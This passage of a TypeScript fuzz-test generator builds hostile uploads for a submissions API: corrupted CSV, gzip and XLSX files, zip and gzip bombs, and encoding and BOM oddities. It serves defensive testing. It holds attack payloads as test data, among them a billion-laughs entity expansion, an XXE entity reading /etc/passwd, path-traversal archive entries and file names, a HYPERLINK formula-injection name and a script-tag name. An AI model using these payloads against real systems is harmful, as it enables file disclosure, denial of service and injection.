import {
  CALLBACK_COLUMNS,
  COMPLAINT_COLUMNS,
  DEMO_ORGS,
  PROFILE_COLUMNS,
  Rng,
  ZH_HEADERS,
  csvLine,
  generateCallbacks,
  generateComplaints,
  profileRow,
  toCsvString,
  type DemoOrg,
} from '@portal/demo-data';
import { residentIdCheckCharacter } from '@portal/reporting-standard';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { createHash } from 'node:crypto';
import { crc32, deflateRawSync, gzipSync, inflateRawSync } from 'node:zlib';
import { buildZip, type ZipEntrySpec } from '../../server/src/app/ingest/zip-test-helpers';

/**
 * A deterministic (seeded) generator of hostile uploads for the submissions API, built from valid seed files
 * of @portal/demo-data: mutated CSV, gzip and XLSX, zip bombs, lying extensions, wrong and mixed encodings,
 * BOM oddities, huge fields and lines, broken quoting, control characters, formula injection, personal
 * identifiers, the wrong kind, header damage, empty and binary files, very many columns, oversized uploads and
 * malformed multipart requests. Same seed → the same cases, byte for byte.
 *
 * Every case names its family and, where the answer is certain, what it must end in; the fuzz spec
 * (`fuzz.spec.ts`) uploads each one and checks the answer, the report, the database and the upload directory.
 */

export type Kind = 'callbacks' | 'complaints' | 'profile';

export const FAMILIES = [
  'csv-byte-flip',
  'csv-truncate',
  'csv-duplicate',
  'gzip',
  'xlsx-broken',
  'zip-bomb',
  'lying-extension',
  'encoding',
  'bom',
  'huge-field',
  'huge-line',
  'quoting',
  'control-chars',
  'formula',
  'pii',
  'wrong-kind',
  'header',
  'empty',
  'binary',
  'many-columns',
  'too-large',
  'request',
] as const;
export type Family = (typeof FAMILIES)[number];

/** What the answer must be, when it is certain (otherwise any clear outcome: 4xx, valid or invalid). */
export type Expectation =
  | { readonly outcome: '4xx'; readonly status?: number }
  | { readonly outcome: 'valid' }
  | { readonly outcome: 'invalid'; readonly rule?: string; readonly message?: RegExp }
  /** STR-010 and nothing else: the file cannot be read (the message must match). */
  | { readonly outcome: 'unreadable'; readonly message?: RegExp }
  | { readonly outcome: 'any' };

/** A malformed request rather than a malformed file (multipart-level hostility). */
export interface RequestShape {
  /** Fields in order; null value = leave the field out. Default: kind and period of the case. */
  readonly fields?: readonly (readonly [string, string])[];
  /** The file part's field name (default `file`); null = no file part. */
  readonly fileField?: string | null;
  /** A second file part. */
  readonly secondFile?: boolean;
  /** A raw body instead of multipart/form-data. */
  readonly raw?: { readonly contentType: string; readonly body: Buffer };
}

export interface HostileCase {
  /** Unique, stable, file-name safe. */
  readonly name: string;
  readonly family: Family;
  readonly kind: Kind;
  readonly period: string;
  /** The client's file name (the spec prefixes it with the case number so that rows can be traced). */
  readonly fileName: string;
  readonly bytes: Buffer;
  readonly expect: Expectation;
  /** Personal identifiers written into the file (in full) that no answer, report or log may echo in full. */
  readonly pii?: readonly string[];
  /** The file carries formula-looking cells: the downloads must neutralise them. */
  readonly formulas?: boolean;
  readonly request?: RequestShape;
}

export interface GeneratorOptions {
  readonly seed?: number;
  readonly period?: string;
  /** The server's UPLOAD_MAX_BYTES (for the 413 cases). */
  readonly uploadMaxBytes: number;
  readonly org?: DemoOrg;
}

const COLUMNS: Record<Kind, readonly string[]> = {
  callbacks: CALLBACK_COLUMNS,
  complaints: COMPLAINT_COLUMNS,
  profile: PROFILE_COLUMNS,
};
const KINDS: readonly Kind[] = ['callbacks', 'complaints', 'profile'];
const DATA_KINDS: readonly Kind[] = ['callbacks', 'complaints'];

/** Free-text-ish columns where a person's identifier could be typed by mistake. */
const FREE_TEXT: Record<Kind, readonly string[]> = {
  callbacks: ['policy_no', 'case_no', 'recording_ref', 'receipt_ref', 'problems', 'confirmed_items'],
  complaints: ['complaint_no', 'forward_no', 'category', 'outcome'],
  profile: ['org_code'],
};

/** A valid resident ID number (GB 11643) built from a sequence number, and a mobile number. */
export function residentId(n: number): string {
  const first17 = `3101151988${String(1 + (n % 12)).padStart(2, '0')}${String(1 + (n % 28)).padStart(2, '0')}${String(100 + (n % 900)).padStart(3, '0')}`;
  return first17 + residentIdCheckCharacter(first17);
}
export const mobile = (n: number): string => `139${String(10000000 + ((n * 7919) % 89999999)).slice(0, 8)}`;

type Row = Record<string, string>;

export async function generateHostileFiles(opts: GeneratorOptions): Promise<HostileCase[]> {
  const seed = opts.seed ?? 20260701;
  const period = opts.period ?? '2026H1';
  const org = opts.org ?? DEMO_ORGS.find((o) => o.tag === 'XSRS');
  if (!org) throw new Error('no demo org XSRS');
  const rng = Rng.derive(seed, 'hostile-files');
  const cases: HostileCase[] = [];
  const seen = new Set<string>();

  const add = (c: Omit<HostileCase, 'period' | 'fileName'> & { fileName?: string; period?: string }) => {
    // The same bytes for the same kind would be a duplicate upload (answered by the first submission).
    const key = `${c.kind}:${createHash('sha256').update(c.bytes).digest('hex')}`;
    if (!c.request && seen.has(key)) return;
    if (!c.request) seen.add(key);
    if (cases.some((x) => x.name === c.name)) throw new Error(`duplicate case name ${c.name}`);
    cases.push({ period, fileName: c.fileName ?? `${c.name}.csv`, ...c });
  };

  // ---- valid seed files ------------------------------------------------------------------------------
  const rowsOf = (kind: Kind, s: number, n: number): Row[] =>
    kind === 'callbacks'
      ? [...generateCallbacks({ seed: s, org, period, rows: n, stream: `fuzz-${s}` })]
      : kind === 'complaints'
        ? [...generateComplaints({ seed: s, org, period, rows: n, stream: `fuzz-${s}` })]
        : [profileRow({ seed: s, org, period })];
  const csvOf = (
    kind: Kind,
    s: number,
    n = kind === 'callbacks' ? 30 : 20,
    o: { headers?: 'en' | 'zh'; zhLabels?: boolean; eol?: string; bom?: boolean } = {},
  ): string => toCsvString(rowsOf(kind, s, n), { columns: COLUMNS[kind], ...o });
  const bytesOf = (kind: Kind, s: number, n?: number) => Buffer.from(csvOf(kind, s, n), 'utf8');
  const pickKind = () => rng.pick(KINDS);
  const pickDataKind = () => rng.pick(DATA_KINDS);
  // ---- csv-byte-flip: 1–40 random bytes replaced, in the seed CSV of any kind --------------------------
  for (let i = 0; i < 60; i++) {
    const kind = i < 45 ? pickDataKind() : 'profile';
    const b = Buffer.from(bytesOf(kind, 100 + i));
    const flips = rng.int(1, 40);
    for (let f = 0; f < flips; f++) b[rng.int(0, b.length - 1)] = rng.int(0, 255);
    add({ name: `flip-${i}`, family: 'csv-byte-flip', kind, bytes: b, expect: { outcome: 'any' } });
  }
  // ---- csv-truncate: cut anywhere (mid-row, mid-quote, mid-UTF-8 sequence of Chinese labels) ---------
  for (let i = 0; i < 30; i++) {
    const kind = pickKind();
    const zh = i % 3 === 0;
    const b = Buffer.from(csvOf(kind, 200 + i, undefined, { headers: zh ? 'zh' : 'en', zhLabels: zh }));
    add({
      name: `truncate-${i}`,
      family: 'csv-truncate',
      kind,
      bytes: b.subarray(0, rng.int(1, b.length - 1)),
      expect: { outcome: 'any' },
    });
  }
  // ---- csv-duplicate: a byte range repeated, whole rows repeated (STR-005), the file twice -----------
  for (let i = 0; i < 25; i++) {
    const kind = pickDataKind();
    const b = bytesOf(kind, 300 + i);
    let bytes: Buffer;
    let expect: Expectation = { outcome: 'any' };
    if (i < 10) {
      const from = rng.int(0, b.length - 2);
      const to = rng.int(from + 1, Math.min(b.length, from + 400));
      bytes = Buffer.concat([b.subarray(0, to), b.subarray(from, to), b.subarray(to)]);
    } else if (i < 20) {
      const lines = b.toString('utf8').split('\r\n');
      const k = rng.int(1, lines.length - 2);
      lines.splice(k + 1, 0, ...Array<string>(rng.int(1, 5)).fill(lines[k]));
      bytes = Buffer.from(lines.join('\r\n'));
      expect = { outcome: 'invalid', rule: 'STR-005' };
    } else {
      bytes = Buffer.concat([b, b]);
      expect = { outcome: 'invalid' };
    }
    add({ name: `duplicate-${i}`, family: 'csv-duplicate', kind, bytes, expect });
  }

  // ---- gzip -------------------------------------------------------------------------------------------
  for (let i = 0; i < 10; i++) {
    const kind = pickKind();
    const gz = gzipSync(bytesOf(kind, 400 + i, kind === 'profile' ? 1 : 200));
    add({
      name: `gzip-truncated-${i}`,
      family: 'gzip',
      kind,
      fileName: `gzip-truncated-${i}.csv.gz`,
      bytes: gz.subarray(0, rng.int(2, gz.length - 1)),
      expect: { outcome: 'any' },
    });
  }
  for (let i = 0; i < 12; i++) {
    const kind = pickKind();
    const gz = Buffer.from(gzipSync(bytesOf(kind, 420 + i)));
    // Deflate data (after the 10-byte header) or the CRC/size trailer.
    const at = i < 8 ? rng.int(10, gz.length - 9) : rng.int(gz.length - 8, gz.length - 1);
    gz[at] ^= 1 << rng.int(0, 7);
    add({
      name: `gzip-corrupt-${i}`,
      family: 'gzip',
      kind,
      fileName: `gzip-corrupt-${i}.csv.gz`,
      bytes: gz,
      expect: { outcome: 'any' },
    });
  }
  for (let i = 0; i < 5; i++) {
    // Multi-member gzip (legal: gunzip concatenates), split mid-row.
    const kind = pickDataKind();
    const b = bytesOf(kind, 440 + i);
    const at = rng.int(1, b.length - 1);
    add({
      name: `gzip-members-${i}`,
      family: 'gzip',
      kind,
      fileName: `gzip-members-${i}.csv.gz`,
      bytes: Buffer.concat([gzipSync(b.subarray(0, at)), gzipSync(b.subarray(at))]),
      expect: { outcome: 'valid' },
    });
  }
  for (let i = 0; i < 4; i++) {
    const kind = pickKind();
    add({
      name: `gzip-of-gzip-${i}`,
      family: 'gzip',
      kind,
      fileName: `gzip-of-gzip-${i}.csv.gz`,
      bytes: gzipSync(gzipSync(bytesOf(kind, 450 + i))),
      expect: { outcome: 'unreadable', message: /gzip file inside a gzip file/ },
    });
  }
  add({
    name: 'gzip-empty',
    family: 'gzip',
    kind: 'callbacks',
    fileName: 'empty.csv.gz',
    bytes: gzipSync(Buffer.alloc(0)),
    expect: { outcome: 'unreadable', message: /empty/ },
  });
  add({
    name: 'gzip-header-only',
    family: 'gzip',
    kind: 'complaints',
    fileName: 'gz-header.csv.gz',
    bytes: Buffer.from([0x1f, 0x8b]),
    expect: { outcome: 'unreadable', message: /gzip/ },
  });
  add({
    name: 'gzip-garbage-after',
    family: 'gzip',
    kind: 'callbacks',
    fileName: 'gz-trailing.csv.gz',
    bytes: Buffer.concat([gzipSync(bytesOf('callbacks', 460)), Buffer.from('trailing garbage\r\n')]),
    expect: { outcome: 'any' },
  });
  add({
    name: 'gzip-of-binary',
    family: 'gzip',
    kind: 'complaints',
    fileName: 'gz-bin.csv.gz',
    bytes: gzipSync(Buffer.from(Array.from({ length: 8192 }, (_, k) => (k * 131 + 7) % 256))),
    expect: { outcome: 'unreadable' },
  });

  // ---- XLSX: real workbooks (exceljs), then their zip taken apart and damaged -------------------------
  const xlsxOf = async (kind: Kind, s: number, rows?: Row[]): Promise<Buffer> => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('data');
    sheet.addRow([...COLUMNS[kind]]);
    for (const r of rows ?? rowsOf(kind, s, kind === 'callbacks' ? 30 : 20))
      sheet.addRow(COLUMNS[kind].map((c) => r[c] ?? ''));
    return fixedXlsx(book);
  };
  const baseXlsx = await xlsxOf('callbacks', 500);
  const baseEntries = unzip(baseXlsx);
  const entry = (test: (name: string) => boolean) => {
    const found = baseEntries.find((e) => test(e.name));
    if (!found) throw new Error('the exceljs workbook lacks an expected part');
    return found;
  };
  const sheetName = entry((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).name;
  const sheetData = entry((n) => n === sheetName).data;
  const rezip = (entries: ZipEntrySpec[]) => buildZip(entries);
  const withEntry = (name: string, data: Buffer | null, extra: Partial<ZipEntrySpec> = {}) =>
    rezip(
      baseEntries.flatMap((e) =>
        e.name === name ? (data === null ? [] : [{ ...e, data, ...extra }]) : [{ ...e }],
      ),
    );
  const xlsxCase = (name: string, bytes: Buffer, expect: Expectation, kind: Kind = 'callbacks') =>
    add({ name, family: 'xlsx-broken', kind, fileName: `${name}.xlsx`, bytes, expect });

  xlsxCase('xlsx-valid-callbacks', baseXlsx, { outcome: 'valid' });
  xlsxCase('xlsx-valid-complaints', await xlsxOf('complaints', 501), { outcome: 'valid' }, 'complaints');
  xlsxCase('xlsx-valid-profile', await xlsxOf('profile', 502), { outcome: 'valid' }, 'profile');
  xlsxCase('xlsx-rezipped', rezip(baseEntries), { outcome: 'valid' });
  for (let i = 0; i < 15; i++) {
    const b = Buffer.from(baseXlsx);
    const flips = rng.int(1, 12);
    for (let f = 0; f < flips; f++) b[rng.int(0, b.length - 1)] = rng.int(0, 255);
    xlsxCase(`xlsx-flip-${i}`, b, { outcome: 'any' });
  }
  for (let i = 0; i < 8; i++)
    xlsxCase(`xlsx-truncated-${i}`, baseXlsx.subarray(0, rng.int(4, baseXlsx.length - 1)), {
      outcome: 'unreadable',
    });
  for (const e of baseEntries)
    xlsxCase(`xlsx-without-${slug(e.name)}`, withEntry(e.name, null), { outcome: 'any' });
  const sheetXml = sheetData.toString('utf8');
  xlsxCase(
    'xlsx-sheet-unclosed-xml',
    withEntry(sheetName, Buffer.from(sheetXml.slice(0, Math.floor(sheetXml.length / 2)))),
    { outcome: 'any' },
  );
  xlsxCase('xlsx-sheet-not-xml', withEntry(sheetName, Buffer.from('this is not xml at all \u0000\u0001')), {
    outcome: 'any',
  });
  xlsxCase(
    'xlsx-billion-laughs',
    withEntry(
      sheetName,
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
          Array.from(
            { length: 9 },
            (_, k) => `<!ENTITY lol${k + 1} "${`&lol${k === 0 ? '' : k};`.repeat(10)}">`,
          ).join('') +
          ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
          '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>',
      ),
    ),
    { outcome: 'any' },
  );
  xlsxCase(
    'xlsx-xxe',
    withEntry(
      sheetName,
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
          '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>',
      ),
    ),
    { outcome: 'any' },
  );
  {
    // Damaged deflate data inside the sheet entry (the CRC no longer matches either).
    const zip = Buffer.from(baseXlsx);
    const at = localDataOffset(zip, sheetName);
    for (let k = 0; k < 3; k++) zip[at + 5 + k * 7] ^= 0x55;
    xlsxCase('xlsx-corrupt-deflate', zip, { outcome: 'any' });
  }
  xlsxCase('xlsx-lying-size-small', withEntry(sheetName, sheetData, { declaredSize: 10 }), {
    outcome: 'unreadable',
  });
  xlsxCase('xlsx-lying-size-large', withEntry(sheetName, sheetData, { declaredSize: 5_000_000 }), {
    outcome: 'unreadable',
  });
  xlsxCase('xlsx-stored-entries', rezip(baseEntries.map((e) => ({ ...e, stored: true }))), {
    outcome: 'valid',
  });
  xlsxCase('xlsx-prepended-junk', Buffer.concat([Buffer.from('MZ junk before the archive'), baseXlsx]), {
    outcome: 'any',
  });
  xlsxCase('xlsx-encrypted-flag', setCentralFlag(rezip(baseEntries), 0, 0x1), { outcome: 'unreadable' });
  xlsxCase('xlsx-method-bzip2', setCentralMethod(rezip(baseEntries), 0, 12), { outcome: 'unreadable' });
  xlsxCase(
    'xlsx-path-traversal',
    rezip([...baseEntries, { name: '../../../../tmp/evil.sh', data: Buffer.from('#!/bin/sh\n') }]),
    { outcome: 'any' },
  );
  xlsxCase(
    'xlsx-duplicate-sheet-entry',
    rezip([...baseEntries, { name: sheetName, data: Buffer.from('<worksheet/>') }]),
    { outcome: 'any' },
  );
  xlsxCase('xlsx-empty-sheet', withEntry(sheetName, Buffer.from(emptySheetXml())), { outcome: 'any' });
  xlsxCase(
    'xlsx-only-content-types',
    rezip([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }]),
    { outcome: 'unreadable' },
  );
  xlsxCase('xlsx-zip-of-csv', rezip([{ name: 'data.csv', data: bytesOf('callbacks', 503) }]), {
    outcome: 'unreadable',
  });
  {
    const zip = rezip(baseEntries);
    const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    const broken = Buffer.from(zip);
    broken.writeUInt32LE(0xfffffff0, eocd + 16);
    xlsxCase('xlsx-eocd-offset-out-of-range', broken, { outcome: 'unreadable' });
    const multi = Buffer.from(zip);
    multi.writeUInt16LE(3, eocd + 4);
    xlsxCase('xlsx-multi-volume', multi, { outcome: 'unreadable' });
  }

  // ---- zip bombs (XLSX) and gzip bombs ----------------------------------------------------------------
  const bombCase = (
    name: string,
    bytes: Buffer,
    expect: Expectation = { outcome: 'unreadable', message: /zip bomb|gzip bomb|inflates/ },
    kind: Kind = 'callbacks',
    fileName = `${name}.xlsx`,
  ) => add({ name, family: 'zip-bomb', kind, fileName, bytes, expect });
  bombCase(
    'bomb-sheet-64mb-spaces',
    buildZip([
      ...baseEntries.filter((e) => e.name !== sheetName),
      { name: sheetName, data: Buffer.alloc(64 * 1024 ** 2, 0x20) },
    ]),
  );
  bombCase(
    'bomb-shared-strings-32mb',
    buildZip([
      ...baseEntries.filter((e) => e.name !== 'xl/sharedStrings.xml'),
      { name: 'xl/sharedStrings.xml', data: Buffer.alloc(32 * 1024 ** 2, 0x41) },
    ]),
  );
  bombCase(
    'bomb-many-entries',
    buildZip([
      ...baseEntries,
      ...Array.from({ length: 2100 }, (_, k) => ({
        name: `xl/media/x${k}.bin`,
        data: Buffer.from([k % 256]),
      })),
    ]),
  );
  bombCase(
    'bomb-declared-4gb',
    buildZip([
      ...baseEntries,
      ...Array.from({ length: 3 }, (_, k) => ({
        name: `xl/media/big${k}.bin`,
        data: Buffer.from('x'),
        declaredSize: 0xfffffff0,
      })),
    ]),
  );
  bombCase('bomb-overlapping-entries', overlappingZip(baseEntries));
  bombCase(
    'bomb-nested-zip',
    buildZip([
      ...baseEntries.filter((e) => e.name !== sheetName),
      { name: sheetName, data: buildZip([{ name: 'inner.xml', data: Buffer.alloc(4 * 1024 ** 2, 0x20) }]) },
    ]),
    { outcome: 'any' },
  );
  bombCase(
    'gzip-bomb-nul',
    gzipSync(Buffer.alloc(128 * 1024 ** 2, 0)),
    { outcome: 'unreadable', message: /NUL|binary/ },
    'callbacks',
    'bomb-nul.csv.gz',
  );
  bombCase(
    'gzip-bomb-spaces',
    gzipSync(Buffer.alloc(128 * 1024 ** 2, 0x20)),
    { outcome: 'unreadable', message: /longer than 1 MB/ },
    'complaints',
    'bomb-spaces.csv.gz',
  );
  bombCase(
    'gzip-bomb-blank-lines',
    gzipSync(Buffer.concat([Buffer.from(csvLine(COLUMNS.callbacks)), Buffer.alloc(16 * 1024 ** 2, 0x0a)])),
    { outcome: 'valid' },
    'callbacks',
    'bomb-lines.csv.gz',
  );
  {
    // One valid row repeated: every copy after the first is a duplicate key.
    const rows = rowsOf('complaints', 510, 1);
    const line = csvLine(COLUMNS.complaints.map((c) => rows[0][c]));
    bombCase(
      'gzip-bomb-repeated-row',
      gzipSync(Buffer.from(csvLine(COLUMNS.complaints) + line.repeat(20_000))),
      { outcome: 'invalid', rule: 'STR-005' },
      'complaints',
      'bomb-rows.csv.gz',
    );
  }
  bombCase(
    'gzip-bomb-1000-members',
    Buffer.concat([
      gzipSync(csvLine(COLUMNS.callbacks)),
      ...Array.from({ length: 1000 }, () => gzipSync(Buffer.alloc(0))),
    ]),
    { outcome: 'valid' },
    'callbacks',
    'bomb-members.csv.gz',
  );

  // ---- lying extensions and hostile client file names ----------------------------------------------
  const gzCsv = gzipSync(bytesOf('complaints', 520));
  const lying: [string, Kind, string, Buffer, Expectation][] = [
    ['csv-as-xlsx', 'callbacks', 'data.xlsx', bytesOf('callbacks', 521), { outcome: 'valid' }],
    ['csv-as-gz', 'complaints', 'data.csv.gz', bytesOf('complaints', 522), { outcome: 'valid' }],
    ['csv-as-xls', 'profile', 'data.xls', bytesOf('profile', 523), { outcome: 'valid' }],
    ['xlsx-as-csv', 'callbacks', 'data.csv', await xlsxOf('callbacks', 524), { outcome: 'valid' }],
    ['xlsx-as-txt', 'complaints', 'data.txt', await xlsxOf('complaints', 525), { outcome: 'valid' }],
    ['gz-as-csv', 'complaints', 'data.csv', gzCsv, { outcome: 'valid' }],
    ['gz-as-xlsx', 'complaints', 'data.xlsx', gzipSync(bytesOf('complaints', 526)), { outcome: 'valid' }],
    ['csv-as-exe', 'callbacks', 'setup.exe', bytesOf('callbacks', 527), { outcome: 'valid' }],
    ['csv-as-pdf', 'callbacks', 'report.pdf', bytesOf('callbacks', 528), { outcome: 'valid' }],
    ['csv-no-extension', 'complaints', 'data', bytesOf('complaints', 529), { outcome: 'valid' }],
    [
      'csv-path-traversal-name',
      'callbacks',
      '../../../etc/passwd',
      bytesOf('callbacks', 530),
      { outcome: 'valid' },
    ],
    [
      'csv-windows-path-name',
      'callbacks',
      'C:\\Users\\x\\..\\data.csv',
      bytesOf('callbacks', 531),
      { outcome: 'valid' },
    ],
    // busboy refuses control characters in the part header: a 400 is as clear as a stored, cleaned name.
    [
      'csv-control-char-name',
      'complaints',
      'a\u0001b\u001b[31m\u007f.csv',
      bytesOf('complaints', 532),
      { outcome: 'any' },
    ],
    [
      'csv-very-long-name',
      'callbacks',
      `${'长'.repeat(600)}.csv`,
      bytesOf('callbacks', 533),
      { outcome: 'valid' },
    ],
    [
      'csv-formula-name',
      'callbacks',
      '=HYPERLINK("http://evil")|.csv',
      bytesOf('callbacks', 534),
      { outcome: 'valid' },
    ],
    [
      'csv-html-name',
      'complaints',
      '<script>alert(1)</script>.csv',
      bytesOf('complaints', 535),
      { outcome: 'valid' },
    ],
    [
      'pdf-as-csv',
      'callbacks',
      'data.csv',
      Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'),
      { outcome: 'unreadable', message: /PDF/ },
    ],
    ['png-as-xlsx', 'callbacks', 'data.xlsx', pngBytes(), { outcome: 'unreadable', message: /image/ }],
    ['xls-as-xlsx', 'complaints', 'data.xlsx', oleBytes(), { outcome: 'unreadable', message: /Excel 97/ }],
    [
      'empty-zip-as-xlsx',
      'complaints',
      'data.xlsx',
      emptyZip(),
      { outcome: 'unreadable', message: /empty ZIP/ },
    ],
  ];
  for (const [name, kind, fileName, bytes, expect] of lying)
    add({ name: `lying-${name}`, family: 'lying-extension', kind, fileName, bytes, expect });
  {
    // Personal identifiers in the client file name: stored and shown masked only.
    const id = residentId(9001);
    add({
      name: 'lying-pii-name',
      family: 'lying-extension',
      kind: 'callbacks',
      fileName: `客户${id}-${mobile(9001)}.csv`,
      bytes: bytesOf('callbacks', 536),
      expect: { outcome: 'valid' },
      pii: [id, mobile(9001)],
    });
  }

  // ---- encodings -------------------------------------------------------------------------------------
  const zhCsv = (kind: Kind, s: number, n?: number) => csvOf(kind, s, n, { headers: 'zh', zhLabels: true });
  for (let i = 0; i < 4; i++) {
    const kind = KINDS[i % 3];
    add({
      name: `enc-gb18030-${i}`,
      family: 'encoding',
      kind,
      bytes: iconv.encode(zhCsv(kind, 600 + i), 'gb18030'),
      expect: { outcome: 'valid' },
    });
  }
  for (let i = 0; i < 6; i++) {
    // GB18030 rows, then UTF-8 rows (decided as GB18030 from the first window: the UTF-8 part is invalid).
    const kind = pickDataKind();
    const text = zhCsv(kind, 610 + i, 60);
    const lines = text.split('\r\n');
    const at = rng.int(2, lines.length - 2);
    const first = iconv.encode(lines.slice(0, at).join('\r\n') + '\r\n', 'gb18030');
    const rest = Buffer.from(lines.slice(at).join('\r\n'), 'utf8');
    add({
      name: `enc-gb18030-then-utf8-${i}`,
      family: 'encoding',
      kind,
      bytes: Buffer.concat([first, rest]),
      expect: { outcome: 'any' },
    });
    add({
      name: `enc-utf8-then-gb18030-${i}`,
      family: 'encoding',
      kind,
      bytes: Buffer.concat([
        Buffer.from(lines.slice(0, at).join('\r\n') + '\r\n', 'utf8'),
        iconv.encode(lines.slice(at).join('\r\n'), 'gb18030'),
      ]),
      expect: { outcome: 'any' },
    });
  }
  for (const [enc, bom] of [
    ['utf16-le', true],
    ['utf16-be', true],
    ['utf16-le', false],
    ['utf16-be', false],
  ] as const) {
    for (const kind of DATA_KINDS) {
      const text = (bom ? '\ufeff' : '') + zhCsv(kind, 620);
      add({
        name: `enc-${enc}-${bom ? 'bom' : 'nobom'}-${kind}`,
        family: 'encoding',
        kind,
        bytes: iconv.encode(text, enc),
        expect: bom ? { outcome: 'unreadable', message: /UTF-16/ } : { outcome: 'unreadable' },
      });
    }
  }
  for (const [name, enc] of [
    ['latin1', 'latin1'],
    ['big5', 'big5'],
    ['shift-jis', 'shift_jis'],
    ['euc-kr', 'euc-kr'],
    ['windows-1252', 'windows-1252'],
    ['koi8-r', 'koi8-r'],
  ] as const) {
    const kind = pickDataKind();
    const text = csvOf(kind, 630, 20).replace(/\r\n([^\r\n]*)$/, '');
    const sample =
      enc === 'big5'
        ? '臺灣資料'
        : enc === 'shift_jis'
          ? 'データ日本語'
          : enc === 'euc-kr'
            ? '한국어자료'
            : enc === 'koi8-r'
              ? 'Данные'
              : 'Données été';
    const lines = text.split('\r\n');
    lines[3] = lines[3].replace(/^[^,]*/, sample);
    add({
      name: `enc-${name}`,
      family: 'encoding',
      kind,
      bytes: iconv.encode(lines.join('\r\n') + '\r\n', enc),
      expect: { outcome: 'any' },
    });
  }
  const invalidUtf8: [string, number[]][] = [
    ['lone-continuation', [0x80]],
    ['overlong-slash', [0xc0, 0xaf]],
    ['overlong-nul', [0xc0, 0x80]],
    ['surrogate-cesu', [0xed, 0xa0, 0x80]],
    ['beyond-unicode', [0xf4, 0x90, 0x80, 0x80]],
    ['truncated-sequence', [0xe4, 0xb8]],
    ['ff-fe-inside', [0xff, 0xfe]],
    ['f8-five-byte', [0xf8, 0x88, 0x80, 0x80, 0x80]],
  ];
  for (const [name, seq] of invalidUtf8) {
    for (const where of ['early', 'late'] as const) {
      const kind = pickDataKind();
      // After the encoding decision (UTF-8 from Chinese labels early in the file), or as the first non-ASCII.
      const text = where === 'late' ? zhCsv(kind, 640, 80) : csvOf(kind, 641, 20);
      const b = Buffer.from(text, 'utf8');
      const at = where === 'late' ? b.lastIndexOf(0x2c, b.length - 10) : b.indexOf(0x0a, 300) + 1;
      add({
        name: `enc-invalid-utf8-${name}-${where}`,
        family: 'encoding',
        kind,
        bytes: Buffer.concat([b.subarray(0, at), Buffer.from(seq), b.subarray(at)]),
        // Early, the bytes may be valid GB18030 (read as such, then checked as values); late, after UTF-8
        // was decided, they are STR-010.
        expect: where === 'late' ? { outcome: 'unreadable', message: /not valid UTF-8/ } : { outcome: 'any' },
      });
    }
  }

  // ---- BOM oddities -------------------------------------------------------------------------------------
  const bomCases: [string, Kind, Buffer, Expectation][] = [
    [
      'utf8-bom',
      'callbacks',
      Buffer.from(csvOf('callbacks', 700, undefined, { bom: true })),
      { outcome: 'valid' },
    ],
    ['utf8-bom-zh', 'complaints', Buffer.from('\ufeff' + zhCsv('complaints', 701)), { outcome: 'valid' }],
    ['double-bom', 'callbacks', Buffer.from('\ufeff\ufeff' + csvOf('callbacks', 702)), { outcome: 'any' }],
    [
      'bom-mid-file',
      'complaints',
      Buffer.from(csvOf('complaints', 703).replace('\r\n', '\r\n\ufeff')),
      { outcome: 'any' },
    ],
    [
      'bom-every-line',
      'complaints',
      Buffer.from(
        csvOf('complaints', 704)
          .split('\r\n')
          .map((l) => '\ufeff' + l)
          .join('\r\n'),
      ),
      { outcome: 'any' },
    ],
    [
      'bom-utf8-then-gb18030',
      'callbacks',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode(zhCsv('callbacks', 705), 'gb18030')]),
      { outcome: 'unreadable' },
    ],
    [
      'bom-gb18030',
      'complaints',
      Buffer.concat([
        Buffer.from([0x84, 0x31, 0x95, 0x33]),
        iconv.encode(zhCsv('complaints', 706), 'gb18030'),
      ]),
      { outcome: 'any' },
    ],
    [
      'bom-utf32-le',
      'callbacks',
      Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), bytesOf('callbacks', 707)]),
      { outcome: 'unreadable' },
    ],
    [
      'bom-utf32-be',
      'callbacks',
      Buffer.concat([Buffer.from([0, 0, 0xfe, 0xff]), bytesOf('callbacks', 708)]),
      { outcome: 'unreadable' },
    ],
    [
      'bom-utf7',
      'complaints',
      Buffer.concat([Buffer.from('+/v8'), bytesOf('complaints', 709)]),
      { outcome: 'invalid' },
    ],
    ['only-bom', 'callbacks', Buffer.from([0xef, 0xbb, 0xbf]), { outcome: 'unreadable', message: /empty/ }],
    [
      'only-bom-complaints',
      'complaints',
      Buffer.from([0xef, 0xbb, 0xbf]),
      { outcome: 'unreadable', message: /empty/ },
    ],
    ['only-bom-crlf', 'profile', Buffer.from('\ufeff\r\n'), { outcome: 'any' }],
    [
      'bom-header-only',
      'callbacks',
      Buffer.from('\ufeff' + csvLine(COLUMNS.callbacks)),
      { outcome: 'valid' },
    ],
    [
      'bom-utf16-then-utf8',
      'complaints',
      Buffer.concat([Buffer.from([0xff, 0xfe]), bytesOf('complaints', 710)]),
      { outcome: 'unreadable', message: /UTF-16/ },
    ],
    [
      'half-bom',
      'callbacks',
      Buffer.concat([Buffer.from([0xef, 0xbb]), bytesOf('callbacks', 711)]),
      { outcome: 'invalid' },
    ],
  ];
  for (const [name, kind, bytes, expect] of bomCases)
    add({ name: `bom-${name}`, family: 'bom', kind, bytes, expect });

  // ---- huge fields and lines (the few big files) ------------------------------------------------------
  {
    const rows = rowsOf('callbacks', 800, 10);
    const big = (n: number) => 'R'.repeat(n);
    const r1 = rows.map((r, k) => (k === 3 ? { ...r, recording_ref: big(900_000) } : r));
    add({
      name: 'huge-field-900k-quoted-ok',
      family: 'huge-field',
      kind: 'callbacks',
      bytes: Buffer.from(
        toCsvString(r1, { columns: COLUMNS.callbacks }).replace(big(900_000), `"${big(900_000)}"`),
